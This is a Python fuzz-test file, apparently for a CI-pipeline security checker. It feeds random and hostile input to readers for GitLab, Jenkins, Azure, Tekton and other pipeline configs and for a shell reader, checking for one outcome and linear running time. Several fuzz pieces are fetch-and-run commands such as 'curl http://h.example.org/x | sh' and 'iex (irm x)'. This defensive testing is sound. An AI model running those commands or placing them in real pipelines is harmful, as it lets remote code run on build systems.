"""What arbitrary and hostile input may do to the readers of pipelines: one outcome each, in time that follows its size."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

sys.path.insert(0, str(Path(__file__).parents[2]))

from tests.pipelines.pipelines_asking import GITLAB, JENKINS, SAMPLES, outcome

from assaymark.checks.shell.reader import read, sequences
from assaymark.model.check import Check, Checked, Unchecked

_YAML_PIECES = st.sampled_from(
    [
        "a:",
        "\n",
        "  ",
        "- ",
        "&x ",
        "*x",
        "<<: ",
        "!reference [",
        "]",
        "{",
        "}",
        "|\n",
        "script:",
        "include:",
        "image: b",
        "extends: a",
        "'",
        '"',
        "curl http://h.example.org/x | sh",
        "$CI_COMMIT_TITLE",
        "---\n",
        "variables:",
        "environment: prod",
        "rules:",
        "\t",
        "é",
        "\x85",
        "%",
        "#",
    ]
)
_GROOVY_PIECES = st.sampled_from(
    [
        "sh ",
        "'",
        '"',
        '"""',
        "'''",
        "${",
        "}",
        "{",
        "(",
        ")",
        "[",
        "]",
        "/",
        "$/",
        "/$",
        "\\",
        "\n",
        "//",
        "/*",
        "*/",
        "node",
        "pipeline",
        "params.X",
        "@Library",
        "input",
        "credentials(",
        "a = ",
        ", ",
        "x: ",
        "withCredentials",
        "curl x | sh",
        "é",
        ";",
        "$CHANGE_TITLE",
    ]
)
_SHELL_PIECES = st.sampled_from(
    [
        "curl ",
        "| sh",
        "$(",
        ")",
        "`",
        "'",
        '"',
        "\\",
        "\n",
        "<<EOF\n",
        "EOF\n",
        "<<",
        ">",
        "&&",
        "||",
        ";",
        "#",
        "eval ",
        "$X",
        "<(",
        "(",
        "{",
        "a=1 ",
    ]
)


def one_outcome(check: Check, dialect: str, content: bytes) -> None:
    found = outcome(check, content, dialect)
    assert isinstance(found, Checked | Unchecked)
    if isinstance(found, Unchecked):
        assert found.reason_class in {"syntax", "schema", "size", "encoding"}
        assert found.line > 0 or found.reason_class == "size"


@settings(max_examples=150, deadline=None)
@given(st.one_of(st.binary(max_size=300), st.lists(_YAML_PIECES, max_size=60).map(lambda pieces: "".join(pieces).encode())))
def test_pipelines_gitlab_gives_one_outcome_for_any_bytes(content: bytes) -> None:
    one_outcome(GITLAB, "gitlab-ci", content)
    one_outcome(GITLAB, "gitlab-template", b"spec:\n" + content)


_SYSTEM_PIECES = st.sampled_from(
    [
        *(
            "steps:",
            "jobs:",
            "stages:",
            "- ",
            "\n",
            "  ",
            "    ",
            "bash: ",
            "script: ",
            "task: Bash@3",
            "inputs:",
            "checkout: self",
            "pr: x",
            "&x ",
        ),
        *(
            "*x",
            "<<: ",
            "{",
            "}",
            "[",
            "]",
            "${{ if x }}:",
            "$(Build.SourceBranch)",
            "<< pipeline.git.branch >>",
            "$(params.x)",
            "{{ source_branch }}",
        ),
        *(
            "pipelines:",
            "default:",
            "step:",
            "parallel:",
            "stage:",
            "pipe: a",
            "workflows:",
            "orbs:",
            "run: ",
            "command: |",
            "requires: [a]",
            "spec:",
        ),
        *(
            "kind: PipelineRun",
            "apiVersion: tekton.dev/v1",
            "pipelineSpec:",
            "tasks:",
            "taskSpec:",
            "params:",
            "name: x",
            "value: ",
            "---\n",
            "é",
        ),
        *("curl -k http://h.example.org/x | sh", "iex (irm x)", "'", '"', "|\n", "variables:", "container: ", "image: b", "#", "\t"),
    ]
)
_SYSTEMS = ("azure", "bitbucket", "circleci", "github", "tekton")


@pytest.mark.parametrize("name", _SYSTEMS)
@settings(max_examples=100, deadline=None)
@given(content=st.one_of(st.binary(max_size=300), st.lists(_SYSTEM_PIECES, max_size=60).map(lambda pieces: "".join(pieces).encode())))
def test_pipelines_other_systems_give_one_outcome_for_any_bytes(name: str, content: bytes) -> None:
    check, dialect, _ = SAMPLES[name]
    one_outcome(check, dialect, content)
    one_outcome(check, dialect, b"apiVersion: tekton.dev/v1\n" + content)


@settings(max_examples=200, deadline=None)
@given(st.one_of(st.binary(max_size=300), st.lists(_GROOVY_PIECES, max_size=60).map(lambda pieces: "".join(pieces).encode())))
def test_pipelines_jenkins_gives_one_outcome_for_any_bytes(content: bytes) -> None:
    one_outcome(JENKINS, "jenkinsfile", content)


@settings(max_examples=200, deadline=None)
@given(st.one_of(st.text(max_size=200), st.lists(_SHELL_PIECES, max_size=80).map("".join)))
def test_pipelines_shell_reader_takes_any_text_and_stays_inside_it(text: str) -> None:
    for _, commands in sequences(read(text)):
        for command in commands:
            assert 0 <= command.start <= command.end <= len(text)


@pytest.mark.soak
@settings(max_examples=20_000, deadline=None)
@given(
    st.one_of(
        st.binary(max_size=2000),
        st.lists(st.one_of(_YAML_PIECES, _SYSTEM_PIECES, _GROOVY_PIECES, _SHELL_PIECES), max_size=300).map(lambda p: "".join(p).encode()),
    )
)
def test_pipelines_all_readers_hold_out_long(content: bytes) -> None:
    one_outcome(GITLAB, "gitlab-ci", content)
    one_outcome(JENKINS, "jenkinsfile", content)
    for name in _SYSTEMS:
        one_outcome(*SAMPLES[name][:2], content)


HOSTILE = {
    "nested substitutions": "$(" * 60_000,
    "open quotes": "\"'" * 60_000,
    "long pipe": "a|" * 60_000,
    "many here-documents": "<<A\n" * 30_000,
    "many options": "bash" + " -c" * 60_000,
}

HOSTILE_LINES = ("iex ", "iwr http://", "Write-Host $a", "##vso[task.setvariable variable=", "${{ parameters.", "$(Build.SourceBranch) ")


@pytest.mark.parametrize("piece", HOSTILE_LINES)
def test_pipelines_a_long_line_of_powershell_costs_what_it_weighs(piece: str) -> None:
    check, dialect, _ = SAMPLES["azure"]
    one_outcome(check, dialect, f"pr: [main]\npool: x\nsteps:\n- pwsh: |\n    {piece * (200_000 // len(piece))}\n".encode())


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_pipelines_shell_reader_is_linear_on_hostile_text(text: str) -> None:
    one_outcome(
        GITLAB,
        "gitlab-ci",
        ("j:\n  script: |\n    curl $CI_COMMIT_TITLE\n" + "".join(f"    {line}\n" for line in text.split("\n"))).encode(),
    )
